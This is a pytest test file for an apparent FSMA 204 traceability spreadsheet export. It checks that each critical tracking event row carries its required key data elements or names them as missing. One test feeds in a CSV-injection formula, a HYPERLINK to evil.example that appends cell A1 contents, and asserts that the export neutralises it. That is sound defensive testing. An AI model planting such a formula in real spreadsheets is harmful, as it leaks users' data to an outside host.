"""FSMA 204 sortable spreadsheet: one row per KDE set, every KDE filled from the ledger."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest

from ledger import KeyFolder, Ledger
from tests.traceability.conftest import JAM, STRAWBERRY, Coop, at, ev, ref
from traceability import Farm, Processing, Projection, Receiving, Role, Site, export_fsma204
from traceability.demo import build_season
from traceability.exports._fsma import COLUMNS, kde_map

VECTORS = Path(__file__).resolve().parents[1] / "vectors" / "standards" / "fsma204"
H1 = f"(01){STRAWBERRY}(10)H1"
G1 = f"(01){STRAWBERRY}(10)G1"
J1 = f"(01){JAM}(10)J1"
#: The CTEs the domain records, by the name the vector file gives them.
DOMAIN_CTES = {
    "harvesting": "harvesting",
    "cooling_before_initial_packing": "cooling",
    "initial_packing": "initial_packing",
    "shipping": "shipping",
    "receiving": "receiving",
    "transformation": "transformation",
}


def sites(coop: Coop) -> None:
    for site, name, phone in [
        ("PS1", "Ayagh Packing Shed", "+86 998 555 0101"),
        ("URUMQI-DC", "Urumqi Fresh DC", None),
    ]:
        body = {"site": site, "business_name": name, "address": f"{site} Road 1, Xinjiang"}
        if site == "PS1":
            body["gln"] = "6912345670005"
        coop.record(Role.COOPERATIVE, ev(Site, **(body | ({"phone": phone} if phone else {}))))


def season(coop: Coop) -> None:
    sites(coop)
    coop.harvest("H1")
    coop.cool("H1", minutes=40)
    coop.test("H1")
    coop.grade("H1", {"G1": ("super", "30", ["36"]), "G2": ("processing", "20", ["22"])})
    coop.release("G1")
    coop.ship("SH1", ["G1"], minutes=24 * 60)
    coop.record(
        Role.LOGISTICS,
        ev(Receiving, shipment="SH1", receiver="URUMQI-DC", time=at(2 * 24 * 60)),
    )
    coop.record(
        Role.PACKING_STATION,
        ev(
            Processing,
            inputs=[ref("G2")],
            output=ref("J1", JAM),
            quantity="8",
            process="jam cooking",
            site="PS1",
            time=at(300),
        ),
    )


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel reads UTF-8 only after a byte-order mark"
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_lot_export_has_every_cte_with_its_kdes(coop: Coop) -> None:
    season(coop)
    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="G1"))
    ctes = [(r["cte"], r["traceability_lot_code"]) for r in table]
    # Sorted by date, then lot code; harvesting and cooling carry no lot code (assigned at
    # initial packing, 21 CFR 1.1320). Sibling G2 and jam J1 are not in G1's chain.
    assert ctes == [
        ("harvesting", ""),
        ("cooling", ""),
        ("initial_packing", G1),
        ("shipping", G1),
        ("receiving", G1),
    ]
    harvest, cooling, packing, shipping, receiving = table
    assert harvest["farm_location"] == "Aysha Tursun (farm YK-F1), Ayagh Village, Yarkant"
    assert harvest["field_or_growing_area"] == "YK-P1"
    assert (harvest["quantity"], harvest["unit_of_measure"]) == ("100", "kg")
    assert harvest["cfr_section"] == "21 CFR 1.1325(a)(1)"
    shed = "Ayagh Packing Shed, PS1 Road 1, Xinjiang, tel. +86 998 555 0101, GLN 6912345670005"
    assert harvest["immediate_subsequent_recipient"] == shed  # cooled at the shed
    assert cooling["immediate_subsequent_recipient"] == shed  # packed where it was cooled
    assert (cooling["cooling_location"], cooling["cooling_date"]) == (shed, "2026-06-01")
    assert packing["date_received"] == "2026-06-01"
    assert (packing["quantity_received"], packing["unit_received"]) == ("100", "kg")
    assert (packing["quantity"], packing["product_description"]) == ("30", "草莓 bulk, super")
    assert packing["harvester_business_name"] == "Aysha Tursun"
    assert packing["harvest_date"] == "2026-06-01"
    assert packing["cooling_location"] == shed
    assert packing["tlc_source_location"] == shed
    assert packing["tlc_source_reference"] == "https://id.gs1.org/414/6912345670005"
    assert packing["variety"] == "Hongyan"
    assert shipping["immediate_subsequent_recipient"].startswith("Urumqi Fresh DC, ")
    assert shipping["event_location"] == shed
    assert receiving["immediate_previous_source"] == shed
    assert all(r["reference_document_number"].startswith("https://") for r in table)
    # The fixture's farm and the DC have no phone on the ledger: the rows say so, by item.
    assert "1.1330(a)(7) harvester_phone: phone" in packing["missing_kdes"]
    assert "1.1340(a)(4) immediate_subsequent_recipient: phone" in shipping["missing_kdes"]
    assert "1.1345(a)(5) event_location: phone" in receiving["missing_kdes"]


def test_farm_phone_on_the_ledger_fills_the_harvester_kdes(coop: Coop) -> None:
    coop.record(
        Role.COOPERATIVE,
        ev(
            Farm,
            farm="YK-F9",
            grower="Li Hua",
            village="Awat",
            county="Yarkant",
            plots=["YK-P9"],
            phone="+86 998 555 0199",
        ),
    )
    coop.harvest("H9", plot="YK-P9")
    coop.grade("H9", {"G9": ("super", "30", ["36"])})
    (packing,) = [r for r in rows(coop.fsma204()) if r["cte"] == "initial_packing"]
    # A leading "+" is neutralised like a formula (the cell is not a plain number).
    assert packing["harvester_phone"] == "'+86 998 555 0199"
    assert packing["farm_location"].endswith("tel. +86 998 555 0199")
    assert "harvester_phone" not in packing["missing_kdes"]


def test_a_site_without_master_data_is_named_as_missing(coop: Coop) -> None:
    coop.harvest("H1")
    coop.test("H1")
    coop.release("H1")
    coop.ship("SH1", ["H1"])
    (shipping,) = [r for r in rows(coop.fsma204()) if r["cte"] == "shipping"]
    assert shipping["immediate_subsequent_recipient"] == "URUMQI-DC"
    assert "no trace.site entry for URUMQI-DC" in shipping["missing_kdes"]


def test_date_range_export_keeps_only_events_in_range(coop: Coop) -> None:
    season(coop)
    start = datetime.fromisoformat(at(24 * 60 - 1))
    table = rows(coop.fsma204(start=start))
    assert [r["cte"] for r in table] == ["shipping", "receiving"]
    # The lot code's source is named by an entry outside the range, and still found.
    assert table[0]["tlc_source_location"].startswith("Ayagh Packing Shed")


def test_transformation_has_a_row_per_input_lot(coop: Coop) -> None:
    season(coop)
    table = rows(coop.fsma204(gtin=JAM, lot="J1"))
    (jam,) = [r for r in table if r["cte"] == "transformation"]
    assert jam["traceability_lot_code"] == J1
    assert jam["input_tlc"] == f"(01){STRAWBERRY}(10)G2"
    assert (jam["input_quantity"], jam["input_unit"]) == ("20", "kg")
    assert jam["input_product_description"] == "草莓 bulk, processing"
    assert (jam["quantity"], jam["product_description"]) == ("8", "草莓酱")
    assert jam["cfr_section"] == "21 CFR 1.1350(a)"
    assert jam["tlc_source_location"].startswith("Ayagh Packing Shed")


def test_lot_export_leaves_out_a_siblings_rows_of_a_shared_shipment(coop: Coop) -> None:
    coop.harvest("H1")
    coop.test("H1")
    coop.grade("H1", {"G1": ("super", "30", ["36"]), "G2": ("grade_1", "20", ["31"])})
    coop.release("G1")
    coop.release("G2")
    coop.ship("SH1", ["G1", "G2"])
    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="G1"))
    assert {r["traceability_lot_code"] for r in table} == {"", G1}
    assert [r["cte"] for r in table if r["traceability_lot_code"] == G1] == [
        "initial_packing",
        "shipping",
    ]
    # The harvest lot's own export still reaches both graded lots.
    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="H1"))
    assert f"(01){STRAWBERRY}(10)G2" in {r["traceability_lot_code"] for r in table}


def test_formula_in_a_variety_exports_inert(coop: Coop) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    coop.harvest("H1", variety=attack)
    coop.grade("H1", {"G1": ("super", "30", ["36"])})
    text = coop.fsma204()
    varieties = {r["variety"] for r in rows(text)}
    assert varieties == {"'" + attack}
    assert "\n=" not in text
    assert ",=" not in text
    assert '"=' not in text


# --- the KDE list of 21 CFR 1.1325-1.1350, table-driven ------------------------------------


def _required(cte: str) -> list[tuple[str, str, str]]:
    """(item, column, vector text) for every KDE the vector lists for a domain CTE."""
    vector = json.loads((VECTORS / "21cfr1-subpartS-cte-kdes.json").read_text("utf-8"))["ctes"]
    out = []
    for key, ours in DOMAIN_CTES.items():
        if ours != cte:
            continue
        spec = vector[key]
        mapped = {k["item"]: k for k in kde_map()[cte]["kdes"]}
        assert kde_map()[cte]["cite"] == spec["cite"]
        for text in spec.get("kdes") or spec["kdes_inputs"] + spec["kdes_outputs"]:
            item = text[: text.index(" ")]
            assert item in mapped, f"{spec['cite']}{item} has no column"
            assert mapped[item]["text"] == text, f"{item}: the package's copy differs"
            if "aquacultured" in text:
                continue  # produce only: the domain records no aquaculture
            optional = set(mapped[item].get("optional_columns", ()))
            out += [(item, c, text) for c in mapped[item]["columns"] if c not in optional]
            assert mapped[item]["columns"] or "aquacultured" in text
    return out


@pytest.fixture(scope="module")
def demo_export(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]]:
    folder = tmp_path_factory.mktemp("demo")
    keys = KeyFolder(folder / "keys")
    root = keys.create("root")
    origin = "test.kashgar-coop.example/log"
    ledger = Ledger.create(
        f"sqlite:///{folder / 'ledger.db'}", origin, root, keys.create_log_signer(origin)
    )
    build_season(ledger, root, keys.create)
    return rows(export_fsma204(Projection(ledger), ledger))


@pytest.mark.parametrize("cte", sorted(set(DOMAIN_CTES.values())))
def test_every_required_kde_is_carried_or_named_missing(
    cte: str, demo_export: list[dict[str, str]], coop: Coop
) -> None:
    season(coop)  # the demo has no processing: the fixture's season adds a transformation
    table = demo_export + rows(coop.fsma204())
    found = [r for r in table if r["cte"] == cte]
    assert found, f"no {cte} rows"
    for row in found:
        for item, column, text in _required(cte):
            named = f"{item} {column}:" in row["missing_kdes"]
            assert row[column] or named, f"{cte} {item} ({text}) blank and not named missing"


def test_demo_lacks_only_the_kdes_its_master_data_leaves_out(
    demo_export: list[dict[str, str]],
) -> None:
    gaps = {
        note.split(": ", 1)[1]
        for r in demo_export
        for note in r["missing_kdes"].split(" | ")
        if note
    }
    # The demo leaves one warehouse's and one grower's phone out on purpose, and its last
    # harvests are not packed yet (so nobody has received them).
    assert gaps == {"phone", "no later cooling or packing recorded yet"}
    lacking = {
        r["immediate_subsequent_recipient"]
        for r in demo_export
        if "1.1340(a)(4)" in r["missing_kdes"]
    }
    assert all(x.startswith("上海电商冷库二号") for x in lacking)
    assert any(
        "Gulnar" in r["harvester_business_name"]
        for r in demo_export
        if "harvester_phone:" in r["missing_kdes"]
    )


def test_column_map_in_docs_names_every_column() -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "fsma204.md").read_text("utf-8")
    assert [c for c in COLUMNS if f"`{c}`" not in doc] == []
